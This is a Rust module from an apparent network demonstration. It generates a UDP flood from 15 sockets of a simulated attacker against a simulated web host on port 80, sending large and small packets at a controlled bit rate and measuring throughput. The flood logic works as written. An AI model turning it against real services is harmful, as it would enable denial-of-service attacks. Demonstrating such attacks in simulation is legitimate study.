//! What the attacker sends: UDP to the service, from many ports, at a steady rate.

use std::io;
use std::net::UdpSocket;
use std::panic::resume_unwind;
use std::thread;
use std::time::{Duration, Instant};

use tokio::sync::oneshot::{self, error::TryRecvError};
use tokio::task::spawn_blocking;

use super::network::{Network, WWW};
use crate::DemoError;

/// Bytes of payload, in turns: large packets fill the line, and small ones the room that those leave in its queue.
const PAYLOADS: [usize; 2] = [1200, 22];

/// Headers of UDP, IPv4 and Ethernet.
const HEADERS: usize = 8 + 20 + 14;

/// How many sources it seems to have.
const SOURCES: usize = 15;

/// How long it pauses between bursts.
const PAUSE: Duration = Duration::from_millis(2);

/// When the flood was, counted from the start of the downloads, and what it was.
pub(super) struct Flood {
    pub(super) start: Duration,
    pub(super) end: Duration,
    pub(super) mbps: f64,
}

impl Flood {
    /// Sends so many bits per second for the shorter of two times, and longer until it `may_end`, for the longer of them at most.
    pub(super) async fn run(
        network: &Network,
        bits_per_second: u64,
        origin: Instant,
        lengths: [Duration; 2],
        may_end: oneshot::Receiver<()>,
    ) -> Result<Self, DemoError> {
        let failed = |source| DemoError::Tcp { over: "of the attacker".to_owned(), source };
        let sockets = network.attacker.run(sockets).map_err(failed)?;
        let (start, begun) = (origin.elapsed(), Instant::now());
        let sending = spawn_blocking(move || send(&sockets, bits_per_second, lengths, may_end));
        let bytes = sending.await.unwrap_or_else(|panic| resume_unwind(panic.into_panic()));
        let mbps = bytes as f64 * 8.0 / 1e6 / begun.elapsed().as_secs_f64();
        Ok(Self { start, end: origin.elapsed(), mbps })
    }
}

fn sockets() -> io::Result<Vec<UdpSocket>> {
    (0..SOURCES)
        .map(|_| {
            let socket = UdpSocket::bind(("0.0.0.0", 0))?;
            socket.connect((WWW, 80))?;
            Ok(socket)
        })
        .collect()
}

/// Sends at the rate, as far as the machine can; returns how many bytes crossed the attacker's line.
fn send(
    sockets: &[UdpSocket],
    bits_per_second: u64,
    [least, most]: [Duration; 2],
    mut may_end: oneshot::Receiver<()>,
) -> u64 {
    let (started, payload) = (Instant::now(), [0x55; PAYLOADS[0]]);
    let mut sent = 0u64;
    let mut packets = sockets.iter().cycle().zip(PAYLOADS.into_iter().cycle());
    // Whoever could say that it may not end yet, and does not live any more, has said enough.
    let mut goes_on = || matches!(may_end.try_recv(), Err(TryRecvError::Empty));
    while started.elapsed() < least || (started.elapsed() < most && goes_on()) {
        let due = bits_per_second as f64 / 8.0 * started.elapsed().as_secs_f64();
        while (sent as f64) < due {
            let Some((socket, length)) = packets.next() else { break };
            // What the attacker's own machine refuses is not sent again.
            drop(socket.send(&payload[..length]));
            sent += (length + HEADERS) as u64;
        }
        thread::sleep(PAUSE);
    }
    sent
}
